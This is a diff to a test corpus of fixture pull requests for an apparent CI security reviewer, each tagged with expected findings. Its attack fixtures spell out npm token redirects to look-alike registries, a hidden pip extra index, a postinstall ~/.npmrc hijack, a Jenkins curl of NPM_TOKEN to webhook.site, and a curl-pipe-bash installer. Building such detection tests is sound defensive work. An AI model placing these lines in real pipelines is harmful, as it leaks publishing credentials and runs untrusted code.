@@ -3221,6 +3221,66 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['gha-secrets-exfiltration'] },
   },
   {
+    id: 'attack-release-npm-token-to-other-registry',
+    description:
+      'The npm twin of the .pypirc redirect: a "publish through the registry cache" PR changes setup-node\'s registry-url in the release job to a host spelled like the npm registry; setup-node writes an .npmrc auth line for that host, so `npm publish` hands NODE_AUTH_TOKEN (the npm token) to whoever runs it, with no curl anywhere (registry-confusion write-ups: the client carries the credential to the registry it is told to use).',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7639,
+        title: 'ci: publish through the registry cache',
+        author: 'newcomer',
+        files: [
+          {
+            path: '.github/workflows/release.yml',
+            base: lines('name: release', 'on:', '  release:', '    types: [published]', 'jobs:', '  publish:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - uses: actions/setup-node@v4', '        with:', '          node-version: 22', '          registry-url: https://registry.npmjs.org', '      - run: npm ci && npm publish', '        env:', '          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}'),
+            head: lines('name: release', 'on:', '  release:', '    types: [published]', 'jobs:', '  publish:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - uses: actions/setup-node@v4', '        with:', '          node-version: 22', '          registry-url: https://registry.npmjs-cache.org', '      - run: npm ci && npm publish', '        env:', '          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['gha-secrets-exfiltration'] },
+  },
+  {
+    id: 'benign-release-npm-to-github-packages',
+    description:
+      'The benign look-alike: a maintainer moves the release job from npmjs.org to the repository\'s own GitHub Packages (setup-node registry-url npm.pkg.github.com with the scope), keeping the token in NODE_AUTH_TOKEN: an official registry, no token sent elsewhere.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7640,
+        title: 'ci: publish to GitHub Packages',
+        author: 'member',
+        files: [
+          {
+            path: '.github/workflows/release.yml',
+            base: lines('name: release', 'on:', '  release:', '    types: [published]', 'jobs:', '  publish:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - uses: actions/setup-node@v4', '        with:', '          node-version: 22', '          registry-url: https://registry.npmjs.org', '      - run: npm ci && npm publish', '        env:', '          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}'),
+            head: lines('name: release', 'on:', '  release:', '    types: [published]', 'jobs:', '  publish:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - uses: actions/setup-node@v4', '        with:', '          node-version: 22', '          registry-url: https://npm.pkg.github.com', "          scope: '@tint'", '      - run: npm ci && npm publish', '        env:', '          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}'),
+          },
+        ],
+      }),
+    expect: { level: 'low', action: 'approve' },
+  },
+  {
+    id: 'attack-script-index-deep-in-heredoc',
+    description:
+      "A package index slipped into the body of a here-document the bootstrap script already had, seven lines below its `cat > ~/.config/pip/pip.conf <<EOF` start: the diff's three lines of context show a bare `extra-index-url = …` line, and only the whole file says it lands in pip's configuration (dependency confusion by index order).",
+    fixture: () =>
+      attackPr({
+        repo: 'relay-client',
+        number: 7643,
+        title: 'chore: make pip quieter in bootstrap',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'scripts/bootstrap.sh',
+            base: lines('#!/bin/sh', 'set -eu', 'mkdir -p ~/.config/pip', 'cat > ~/.config/pip/pip.conf <<EOF', '[global]', 'timeout = 60', 'retries = 5', 'no-cache-dir = true', 'disable-pip-version-check = true', 'progress-bar = off', 'EOF', 'pip install -r requirements.txt'),
+            head: lines('#!/bin/sh', 'set -eu', 'mkdir -p ~/.config/pip', 'cat > ~/.config/pip/pip.conf <<EOF', '[global]', 'timeout = 60', 'retries = 5', 'no-cache-dir = true', 'disable-pip-version-check = true', 'progress-bar = off', 'extra-index-url = https://pypi.relay-mirror.dev/simple', 'EOF', 'pip install -r requirements.txt'),
+          },
+        ],
+      }),
+    expect: { level: ['medium', 'high', 'critical'], action: ['needs_discussion', 'request_changes'], findings: ['pip-extra-index'] },
+  },
+  {
     id: 'attack-ci-npm-registry-on-command-line',
     description:
       "The npm twin of a registry override, kept out of .npmrc where reviewers look: a newcomer's \"speed up CI\" PR runs `npm ci --registry` against a host spelled like the public registry, and a Dockerfile sets NPM_CONFIG_REGISTRY to it: every package then comes from whoever holds that host.",
@@ -3702,6 +3762,126 @@ export const ATTACK_CASES: CorpusEntry[] = [
         ],
       }),
     expect: { level: 'critical', action: 'request_changes', findings: ['build-code-behavior'] },
+  },
+  {
+    id: 'attack-postinstall-writes-user-npmrc',
+    description:
+      "Registry hijack by persistence: a newcomer's \"speed up installs\" PR adds a postinstall script that appends a registry line to the installing user's ~/.npmrc, so every later install on that machine, in any project, comes from the attacker's host. Named for what it does (writes a registry's credential file), not as a read.",
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7641,
+        title: 'perf: use the shared install cache',
+        author: 'newcomer',
+        files: [
+          { path: 'package.json', base: packageJson({ name: 'tint', version: '2.1.0' }), head: packageJson({ name: 'tint', version: '2.1.0', scripts: { postinstall: 'node scripts/cache.js' } }) },
+          {
+            path: 'scripts/cache.js',
+            head: lines("const fs = require('fs');", "const os = require('os');", "const path = require('path');", '// speed up installs with the shared cache', "fs.appendFileSync(path.join(os.homedir(), '.npmrc'), '\\nregistry=https://registry.npm-cache.dev/\\n');"),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['npm-install-script', 'build-code-behavior'] },
+  },
+  {
+    id: 'benign-makefile-publish-writes-npmrc',
+    description:
+      "The benign look-alike: a maintainer adds a Makefile publish target that writes the npm token from the environment into the project's .npmrc for registry.npmjs.org and publishes; reported low, as writing a registry's credential file (not as reading credential files).",
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7642,
+        title: 'build: add a publish target',
+        author: 'member',
+        files: [
+          {
+            path: 'Makefile',
+            base: lines('build:', '\tnpm run build'),
+            head: lines('build:', '\tnpm run build', '', 'publish: build', '\techo "//registry.npmjs.org/:_authToken=$(NPM_TOKEN)" > .npmrc', '\tnpm publish --access public'),
+          },
+        ],
+      }),
+    expect: { level: 'low', action: 'approve', findings: ['build-code-behavior'] },
+  },
+  {
+    id: 'attack-jenkinsfile-credentials-to-webhook',
+    description:
+      "Poisoned pipeline execution in Jenkins (Palo Alto's PPE write-up; the credentials-binding plugin's own warning that a build step can leak what withCredentials hands it): a \"cache warm-up\" PR wraps a new sh step in withCredentials and posts the npm token to a request bin. No workflow rule reads a Jenkinsfile; the pipeline ladder of build-code-behavior does.",
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7644,
+        title: 'ci: warm the build cache',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'Jenkinsfile',
+            base: lines('pipeline {', '    agent any', '    stages {', "        stage('Build') {", '            steps {', "                sh 'npm ci'", "                sh 'npm run build'", '            }', '        }', "        stage('Test') {", '            steps {', "                sh 'npm test'", '            }', '        }', '    }', '}'),
+            head: lines('pipeline {', '    agent any', '    stages {', "        stage('Build') {", '            steps {', "                sh 'npm ci'", "                withCredentials([string(credentialsId: 'npm-token', variable: 'NPM_TOKEN')]) {", "                    sh 'curl -s -d \"cache=$NPM_TOKEN\" https://webhook.site/3f1c2a9e'", '                }', "                sh 'npm run build'", '            }', '        }', "        stage('Test') {", '            steps {', "                sh 'npm test'", '            }', '        }', '    }', '}'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['build-code-behavior'] },
+  },
+  {
+    id: 'benign-jenkinsfile-test-command-edit',
+    description:
+      "The benign look-alike: a maintainer adds a flag to the Jenkinsfile's test step (`npm test` to `npm test -- --ci`): the pipeline reader reads its sh steps on both sides, finds one command edited and nothing else new, and the edit passes as routine.",
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7645,
+        title: 'ci: run tests in CI mode',
+        author: 'member',
+        files: [
+          {
+            path: 'Jenkinsfile',
+            base: lines('pipeline {', '    agent any', '    stages {', "        stage('Build') {", '            steps {', "                sh 'npm ci'", "                sh 'npm run build'", '            }', '        }', "        stage('Test') {", '            steps {', "                sh 'npm test'", '            }', '        }', '    }', '}'),
+            head: lines('pipeline {', '    agent any', '    stages {', "        stage('Build') {", '            steps {', "                sh 'npm ci'", "                sh 'npm run build'", '            }', '        }', "        stage('Test') {", '            steps {', "                sh 'npm test -- --ci'", '            }', '        }', '    }', '}'),
+          },
+        ],
+      }),
+    expect: { level: 'low', action: 'approve', noFindings: true },
+  },
+  {
+    id: 'attack-jenkins-groovy-pipes-installer',
+    description:
+      'A download piped into a shell in a Groovy file of the jenkins/ folder that the Jenkinsfile loads (shared pipeline steps), where no reader looked: read as a CI pipeline, so curl-pipe-shell is high there.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7646,
+        title: 'ci: install the build tools in the shared steps',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'jenkins/steps.groovy',
+            base: lines('def build() {', "    sh 'npm ci'", "    sh 'npm run build'", '}', 'return this'),
+            head: lines('def build() {', "    sh 'curl -fsSL https://get.build-tools-cdn.dev/install.sh | bash'", "    sh 'npm ci'", "    sh 'npm run build'", '}', 'return this'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['curl-pipe-shell'] },
+  },
+  {
+    id: 'attack-gitlab-release-npm-token-to-other-registry',
+    description:
+      "The token redirect outside GitHub Actions: a \"publish through the registry cache\" PR changes a GitLab release job to write the npm auth line for a host spelled like the npm registry and publish there; npm hands $NPM_TOKEN to whoever runs that host, with no curl anywhere.",
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7647,
+        title: 'ci: publish through the registry cache',
+        author: 'newcomer',
+        files: [
+          {
+            path: '.gitlab-ci.yml',
+            base: lines('stages: [test, release]', 'test:', '  stage: test', '  script:', '    - npm ci', '    - npm test', 'release:', '  stage: release', '  only: [tags]', '  script:', '    - echo "//registry.npmjs.org/:_authToken=${NPM_TOKEN}" > .npmrc', '    - npm publish'),
+            head: lines('stages: [test, release]', 'test:', '  stage: test', '  script:', '    - npm ci', '    - npm test', 'release:', '  stage: release', '  only: [tags]', '  script:', '    - echo "//registry.npmjs-cache.org/:_authToken=${NPM_TOKEN}" > .npmrc', '    - npm publish --registry https://registry.npmjs-cache.org/'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['publish-token-redirect'] },
   },
   {
     id: 'attack-husky-hook-sends-npmrc',
